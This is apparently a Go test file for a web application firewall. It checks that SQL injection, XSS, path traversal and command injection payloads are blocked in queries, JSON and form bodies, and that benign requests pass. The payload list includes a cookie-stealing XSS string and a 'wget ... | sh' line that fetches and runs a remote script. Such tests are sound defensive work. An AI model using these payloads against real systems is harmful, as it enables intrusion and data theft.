package waf_test

import (
	"bytes"
	"encoding/json"
	"io"
	"log/slog"
	"net/http"
	"net/http/httptest"
	"net/netip"
	"net/url"
	"strconv"
	"strings"
	"sync"
	"sync/atomic"
	"testing"

	"github.com/rampart-api/rampart"
	"github.com/rampart-api/rampart/audit"
	"github.com/rampart-api/rampart/problem"
	"github.com/rampart-api/rampart/waf"
)

// eventSink collects security events as decoded JSON lines. It is shared
// by the WAFs built once per test binary, so tests read events by request
// id.
type eventSink struct {
	mu  sync.Mutex
	buf bytes.Buffer
}

func (s *eventSink) Write(p []byte) (int, error) {
	s.mu.Lock()
	defer s.mu.Unlock()
	return s.buf.Write(p)
}

func (s *eventSink) byRequest(id string) []map[string]any {
	s.mu.Lock()
	defer s.mu.Unlock()
	var out []map[string]any
	for _, line := range bytes.Split(s.buf.Bytes(), []byte("\n")) {
		if len(line) == 0 {
			continue
		}
		var m map[string]any
		if err := json.Unmarshal(line, &m); err != nil {
			panic(err)
		}
		if m["request_id"] == id {
			out = append(out, m)
		}
	}
	return out
}

var (
	sink       = new(eventSink)
	events     = audit.NewLogger(slog.NewJSONHandler(sink, nil))
	requestSeq atomic.Uint64
	builtMu    sync.Mutex
	builtWAF   = map[string]*waf.WAF{}
)

// build returns a WAF for cfg, built once per test binary: each build
// compiles the whole CRS.
func build(t testing.TB, name string, cfg waf.Config) *waf.WAF {
	t.Helper()
	builtMu.Lock()
	defer builtMu.Unlock()
	if w, ok := builtWAF[name]; ok {
		return w
	}
	cfg.Events = events
	w, err := waf.New(cfg)
	if err != nil {
		t.Fatalf("New: %v", err)
	}
	builtWAF[name] = w
	return w
}

// upstream records what reached it.
type upstream struct {
	called bool
	body   []byte
}

func (u *upstream) ServeHTTP(w http.ResponseWriter, r *http.Request) {
	u.called = true
	u.body, _ = io.ReadAll(r.Body)
	w.WriteHeader(http.StatusNoContent)
}

type reqCase struct {
	name        string
	method      string
	target      string
	contentType string
	body        string
}

func (c reqCase) request(t testing.TB) *http.Request {
	t.Helper()
	method := c.method
	if method == "" {
		method = http.MethodGet
		if c.body != "" {
			method = http.MethodPost
		}
	}
	var body io.Reader
	if c.body != "" {
		body = strings.NewReader(c.body)
	}
	r := httptest.NewRequest(method, c.target, body)
	r.Header.Set("User-Agent", "Mozilla/5.0 (X11; Linux x86_64) rampart-test")
	r.Header.Set("Accept", "application/json")
	if c.contentType != "" {
		r.Header.Set("Content-Type", c.contentType)
	}
	if c.body != "" {
		// A server's request keeps the header; httptest sets only the field.
		r.Header.Set("Content-Length", strconv.Itoa(len(c.body)))
	}
	r, info := rampart.WithInfo(r)
	info.RequestID = "req-" + strconv.FormatUint(requestSeq.Add(1), 10)
	info.ClientIP = netip.MustParseAddr("203.0.113.7")
	info.Route = "/api/search"
	return r
}

func jsonBody(field, value string) string {
	b, _ := json.Marshal(map[string]any{field: value, "page": 1})
	return string(b)
}

func formBody(field, value string) string {
	return url.Values{field: {value}}.Encode()
}

func q(value string) string {
	return "/api/search?q=" + url.QueryEscape(value)
}

const (
	ctJSON = "application/json"
	ctForm = "application/x-www-form-urlencoded"
)

// attacks are classic payloads, each in a query string, a JSON body and a
// form body.
var attacks = []struct{ name, payload string }{
	{"sqli tautology", "' OR 1=1--"},
	{"sqli union select", "1 UNION SELECT username, password FROM users--"},
	{"sqli stacked drop", "1; DROP TABLE users; --"},
	{"xss script tag", "<script>alert(1)</script>"},
	{"xss img onerror", `<img src=x onerror=alert(document.cookie)>`},
	{"xss javascript url", "javascript:alert(document.domain)"},
	{"xss svg onload", "<svg/onload=alert(1)>"},
	{"traversal etc passwd", "../../../../etc/passwd"},
	{"traversal encoded", "..%2f..%2f..%2fetc%2fpasswd"},
	{"traversal double encoded", "%252e%252e%252f%252e%252e%252fetc%252fpasswd"},
	{"cmd semicolon cat", "; cat /etc/passwd"},
	{"cmd subshell id", "$(id)"},
	{"cmd backticks", "`cat /etc/passwd`"},
	{"cmd pipe wget", "| wget http://203.0.113.9/x.sh -O- | sh"},
}

func attackCases() []reqCase {
	var cs []reqCase
	for _, a := range attacks {
		cs = append(cs,
			reqCase{name: a.name + " in query", target: q(a.payload)},
			reqCase{name: a.name + " in JSON body", target: "/api/search", contentType: ctJSON, body: jsonBody("q", a.payload)},
			reqCase{name: a.name + " in form body", target: "/api/search", contentType: ctForm, body: formBody("q", a.payload)},
		)
	}
	return cs
}

// benign are ordinary API requests that paranoia level 1 must let through.
var benign = []reqCase{
	{name: "plain GET", target: "/api/search?q=rampart&limit=10"},
	{name: "name with apostrophe", target: "/api/users", contentType: ctJSON, body: `{"name":"Siobhán O'Brien","email":"siobhan.obrien@example.com"}`},
	{name: "apostrophe in query", target: q("O'Reilly books")},
	{name: "markdown with headings and links", target: "/api/notes", contentType: ctJSON, body: jsonBody("body", "# Release notes\n\n## Fixes\n\n- See [the changelog](https://example.com/changelog) for details.\n- **Bold** and _italic_ text.\n")},
	{name: "code snippet in a field", target: "/api/snippets", contentType: ctJSON, body: jsonBody("code", "func add(a, b int) int {\n\treturn a + b\n}\n")},
	{name: "utf-8 text", target: "/api/notes", contentType: ctJSON, body: jsonBody("body", "Grüße aus Köln — 東京で会いましょう 🙂")},
	{name: "numbers and nesting", target: "/api/orders", contentType: ctJSON, body: `{"items":[{"sku":"A-100","qty":3,"price":19.99},{"sku":"B-7","qty":1,"price":1e3}],"total":1059.97,"paid":false,"coupon":null}`},
	{name: "form with ordinary text", target: "/api/contact", contentType: ctForm, body: formBody("message", "Hello, I'd like to know more about your pricing. Thanks!")},
	{name: "PUT with JSON", method: http.MethodPut, target: "/api/users/7", contentType: "application/json; charset=utf-8", body: `{"display_name":"D'Angelo","bio":"Likes 5 > 3 and 2 < 4."}`},
	{name: "PATCH with JSON", method: http.MethodPatch, target: "/api/users/7", contentType: ctJSON, body: `{"timezone":"Europe/Dublin"}`},
	{name: "DELETE", method: http.MethodDelete, target: "/api/users/7/sessions/3"},
}

func TestAttacksBlocked(t *testing.T) {
	w := build(t, "default", waf.Config{})
	for _, c := range attackCases() {
		t.Run(c.name, func(t *testing.T) {
			r := c.request(t)
			rec := httptest.NewRecorder()
			up := new(upstream)
			w.Handler(up).ServeHTTP(rec, r)
			if rec.Code != http.StatusForbidden {
				t.Fatalf("status = %d, want 403", rec.Code)
			}
			if up.called {
				t.Fatal("upstream was called")
			}
			assertProblem(t, rec, c)
			evs := sink.byRequest(rampart.InfoFrom(r.Context()).RequestID)
			if len(evs) != 1 {
				t.Fatalf("events = %d, want 1", len(evs))
			}
			ev := evs[0]
			if ev["event"] != audit.WAFBlocked || ev["owasp"] != audit.OWASPMisconfig || ev["status"] != float64(403) || ev["client_ip"] != "203.0.113.7" {
				t.Fatalf("event = %v", ev)
			}
			ids, _ := ev["rule_ids"].([]any)
			if len(ids) < 2 || !contains(ids, float64(949110)) {
				t.Fatalf("rule_ids = %v, want the matched rules and 949110", ev["rule_ids"])
			}
			if score, _ := ev["anomaly_score"].(float64); score < 5 {
				t.Fatalf("anomaly_score = %v", ev["anomaly_score"])
			}
		})
	}
}

// assertProblem checks the refusal is a problem document that says
// nothing about the rules or the payload.
func assertProblem(t *testing.T, rec *httptest.ResponseRecorder, c reqCase) {
	t.Helper()
	if ct := rec.Header().Get("Content-Type"); ct != problem.ContentType {
		t.Fatalf("Content-Type = %q", ct)
	}
	body := rec.Body.String()
	for _, leak := range []string{"9421", "9411", "9301", "9321", "CRS", "Anomaly", "rule", "etc/passwd", "script", "SELECT"} {
		if strings.Contains(body, leak) {
			t.Fatalf("problem body leaks %q: %s", leak, body)
		}
	}
	if c.body != "" && strings.Contains(body, c.body) {
		t.Fatalf("problem body echoes the request body: %s", body)
	}
}

func TestBenignPasses(t *testing.T) {
	w := build(t, "default", waf.Config{})
	for _, c := range benign {
		t.Run(c.name, func(t *testing.T) {
			r := c.request(t)
			rec := httptest.NewRecorder()
			up := new(upstream)
			w.Handler(up).ServeHTTP(rec, r)
			if rec.Code != http.StatusNoContent || !up.called {
				t.Fatalf("status = %d, upstream called = %v; events: %v", rec.Code, up.called, sink.byRequest(rampart.InfoFrom(r.Context()).RequestID))
			}
			if string(up.body) != c.body {
				t.Fatalf("upstream body = %q, want %q", up.body, c.body)
			}
			if evs := sink.byRequest(rampart.InfoFrom(r.Context()).RequestID); len(evs) != 0 {
				t.Fatalf("events for a benign request: %v", evs)
			}
		})
	}
}

func contains(s []any, v any) bool {
	for _, x := range s {
		if x == v {
			return true
		}
	}
	return false
}
